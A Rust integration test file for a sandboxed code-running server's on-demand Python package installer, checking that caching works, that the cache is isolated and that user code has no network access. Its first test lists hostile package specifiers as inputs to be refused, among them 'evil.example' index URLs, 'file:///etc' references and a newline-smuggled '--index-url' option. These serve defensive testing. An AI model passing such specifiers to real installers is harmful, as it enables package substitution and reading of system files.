//! Packages on demand: `packages` in run-code and session_start, `%pip install` in a
//! Python session, installed by the server's confined installer (uv, wheels only) from
//! PyPI into a cache user code cannot write. PyPI must be reachable (it is in CI).

mod common;

use std::path::PathBuf;

use common::{TestServer, output, require};
use serde_json::{Value, json};

/// A package cache of this test's own, removed when dropped.
struct Cache(PathBuf);

impl Cache {
    fn new(name: &str) -> Self {
        let p = std::env::temp_dir().join(format!("replbox-pkg-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&p);
        Self(p)
    }
    fn s(&self) -> &str {
        self.0.to_str().expect("utf-8 path")
    }
}

impl Drop for Cache {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// A server with its own package cache, or None (skipped) without python or uv.
async fn server(cache: &Cache, more: &[&str]) -> Option<TestServer> {
    if !require("python", "python3") || !require("uv", "uv") {
        return None;
    }
    let mut args = vec!["--package-cache", cache.s()];
    args.extend_from_slice(more);
    Some(TestServer::start_with(&args, &[]).await)
}

fn run(code: &str, packages: &[&str]) -> Value {
    json!({"languageId": "python", "code": code, "packages": packages})
}

fn installed(v: &Value) -> Vec<String> {
    v["packages"]["installed"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|p| {
                    format!(
                        "{}=={}",
                        p["name"].as_str().unwrap_or(""),
                        p["version"].as_str().unwrap_or("")
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn specifiers_that_are_not_plain_requirements_are_refused() {
    let cache = Cache::new("attack");
    let Some(s) = server(&cache, &[]).await else {
        return;
    };
    for bad in [
        "--index-url=https://evil.example/simple",
        "-e /",
        "pkg @ file:///etc",
        "git+https://github.com/benjaminp/six",
        "./local",
        "/etc",
        "six\n--index-url https://evil.example/simple",
        "six --no-deps",
        "https://evil.example/six.whl",
    ] {
        let o = s.call("run-code", run("print('ran')", &[bad])).await;
        assert_eq!(o.error_kind(), "invalid_argument", "{bad:?}: {}", o.text);
        assert!(
            o.text.contains("is not a package specifier"),
            "{bad:?}: {}",
            o.text
        );
        assert!(!o.text.contains("ran"), "{bad:?}: the code ran: {}", o.text);
        let o = s
            .call(
                "session_start",
                json!({"language": "python", "packages": [bad]}),
            )
            .await;
        assert_eq!(o.error_kind(), "invalid_argument", "{bad:?}: {}", o.text);
    }
    // Only Python takes packages; a caller's venv takes none from the server.
    let o = s
        .call(
            "run-code",
            json!({"languageId": "bash", "code": "echo ran", "packages": ["six"]}),
        )
        .await;
    assert_eq!(o.error_kind(), "invalid_argument", "{}", o.text);
    let o = s
        .call(
            "run-code",
            json!({"languageId": "python", "code": "1", "packages": ["six"], "venv": "/tmp"}),
        )
        .await;
    assert_eq!(o.error_kind(), "invalid_argument", "{}", o.text);
    // The same through %pip: an option is refused as a specifier, and nothing is evaluated.
    let id = s.start_session("python").await;
    for line in [
        "%pip install --index-url=https://evil.example/simple six\nprint('ran')",
        "!pip install -e /\nprint('ran')",
        "%pip install 'six @ file:///etc'\nprint('ran')",
        "%pip install\nprint('ran')",
    ] {
        let o = s.eval(&id, line).await;
        assert_eq!(o.error_kind(), "invalid_argument", "{line:?}: {}", o.text);
        assert!(!o.text.contains("ran"), "{line:?}: {}", o.text);
    }
    // The session still serves.
    assert_eq!(output(&s.eval(&id, "print(6 * 7)").await).trim(), "42");
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn run_code_packages_are_installed_then_taken_from_the_cache() {
    let cache = Cache::new("run");
    let Some(s) = server(&cache, &[]).await else {
        return;
    };
    let code = "import six, iniconfig\nprint('six', six.__version__)";
    let o = s.call("run-code", run(code, &["six", "iniconfig"])).await;
    assert!(!o.is_error, "{}", o.text);
    assert!(o.text.starts_with("six 1."), "{}", o.text);
    let first = installed(&o.structured);
    assert!(first.iter().any(|p| p.starts_with("six==1.")), "{first:?}");
    assert!(
        first.iter().any(|p| p.starts_with("iniconfig==")),
        "{first:?}"
    );
    assert_eq!(
        o.structured["packages"]["downloaded"],
        json!(2),
        "{}",
        o.structured
    );
    assert!(o.text.contains("[packages: "), "{}", o.text);
    // The second run with the same packages downloads nothing: uv's shared cache has them.
    let o = s.call("run-code", run(code, &["six", "iniconfig"])).await;
    assert!(!o.is_error, "{}", o.text);
    assert_eq!(installed(&o.structured), first);
    assert_eq!(
        o.structured["packages"]["downloaded"],
        json!(0),
        "{}",
        o.structured
    );
    assert!(o.text.contains("all from the cache"), "{}", o.text);
    // User code can write neither the cache nor its own packages.
    let probe = format!(
        r#"
import os, six
for p in [{cache:?} + "/uv/x", {cache:?} + "/layers/x", six.__file__]:
    try:
        open(p, "a").write("x")
        print("WROTE", p)
    except OSError as e:
        print("refused", type(e).__name__)
"#,
        cache = cache.s()
    );
    let o = s.call("run-code", run(&probe, &["six"])).await;
    assert!(!o.is_error, "{}", o.text);
    assert!(!o.text.contains("WROTE"), "{}", o.text);
    assert_eq!(o.text.matches("refused").count(), 3, "{}", o.text);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn session_packages_and_pip_install_then_import() {
    let cache = Cache::new("session");
    let Some(s) = server(&cache, &[]).await else {
        return;
    };
    let o = s
        .call(
            "session_start",
            json!({"language": "python", "packages": ["tomli"]}),
        )
        .await;
    assert!(!o.is_error, "{}", o.text);
    assert!(
        installed(&o.structured)
            .iter()
            .any(|p| p.starts_with("tomli==")),
        "{}",
        o.structured
    );
    assert!(o.text.contains("packages: tomli=="), "{}", o.text);
    let id = o.s("session_id").to_string();
    let o = s
        .eval(&id, "import tomli; print(tomli.loads('a = 1'))")
        .await;
    assert_eq!(output(&o).trim(), "{'a': 1}", "{}", o.text);
    // %pip in a cell of its own, then the import in the next one.
    let o = s.eval(&id, "%pip install six").await;
    assert!(!o.is_error, "{}", o.text);
    assert!(o.text.contains("six=="), "{}", o.text);
    let o = s.eval(&id, "import six; print(six.PY3)").await;
    assert_eq!(output(&o).trim(), "True", "{}", o.text);
    // !pip and the code after it in the same cell.
    let o = s
        .eval(
            &id,
            "!pip install -q iniconfig\nimport iniconfig\nprint('imported', iniconfig.__name__)",
        )
        .await;
    assert!(output(&o).contains("imported iniconfig"), "{}", o.text);
    // A second session with the same packages takes them from the cache.
    let o = s
        .call(
            "session_start",
            json!({"language": "python", "packages": ["tomli"]}),
        )
        .await;
    assert!(!o.is_error, "{}", o.text);
    assert_eq!(
        o.structured["packages"]["downloaded"],
        json!(0),
        "{}",
        o.structured
    );
    // A session cannot write the cache.
    let id2 = o.s("session_id").to_string();
    let probe = format!(
        "try:\n    open({:?} + '/uv/x', 'w')\n    print('WROTE')\nexcept OSError as e:\n    print('refused', type(e).__name__)",
        cache.s()
    );
    let o = s.eval(&id2, &probe).await;
    assert!(output(&o).contains("refused"), "{}", o.text);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn packages_that_cannot_be_had_are_named_with_the_reason() {
    let cache = Cache::new("missing");
    let Some(s) = server(&cache, &[]).await else {
        return;
    };
    for (spec, says) in [
        ("replbox-no-such-package-4f2a9", "not on the package index"),
        ("six==99.0.0", "no version on the index matches"),
        // docopt is published as a source distribution only.
        ("docopt", "wheels only"),
    ] {
        let o = s.call("run-code", run("print('ran')", &[spec])).await;
        assert_eq!(o.error_kind(), "package_unavailable", "{spec}: {}", o.text);
        assert!(o.text.contains(spec), "{spec}: {}", o.text);
        assert!(o.text.contains(says), "{spec}: {}", o.text);
        assert!(!o.text.contains("ran"), "{spec}: {}", o.text);
    }
    let o = s
        .call(
            "session_start",
            json!({"language": "python", "packages": ["six==99.0.0"]}),
        )
        .await;
    assert_eq!(o.error_kind(), "package_unavailable", "{}", o.text);
    // %pip's failure leaves the session as it was.
    let id = s.start_session("python").await;
    s.eval(&id, "x = 5").await;
    let o = s.eval(&id, "%pip install six==99.0.0").await;
    assert_eq!(o.error_kind(), "package_unavailable", "{}", o.text);
    assert_eq!(output(&s.eval(&id, "print(x)").await).trim(), "5");
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn user_code_still_cannot_reach_the_index() {
    let cache = Cache::new("offline");
    let Some(s) = server(&cache, &[]).await else {
        return;
    };
    let code = r#"
import urllib.request
try:
    urllib.request.urlopen("https://pypi.org/simple/six/", timeout=10)
    print("REACHED")
except Exception as e:
    print("blocked", type(e).__name__)
"#;
    let o = s.call("run-code", run(code, &["six"])).await;
    assert!(!o.is_error, "{}", o.text);
    assert!(o.structured["packages"].is_object(), "{}", o.structured);
    assert!(o.text.contains("blocked"), "{}", o.text);
    assert!(!o.text.contains("REACHED"), "{}", o.text);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_packages_turns_them_off() {
    let cache = Cache::new("off");
    let Some(s) = server(&cache, &["--no-packages"]).await else {
        return;
    };
    let o = s.call("run-code", run("print(1)", &["six"])).await;
    assert_eq!(o.error_kind(), "invalid_argument", "{}", o.text);
    assert!(o.text.contains("--no-packages"), "{}", o.text);
    let id = s.start_session("python").await;
    let o = s.eval(&id, "%pip install six").await;
    assert!(o.text.contains("--no-packages"), "{}", o.text);
    s.stop().await;
}
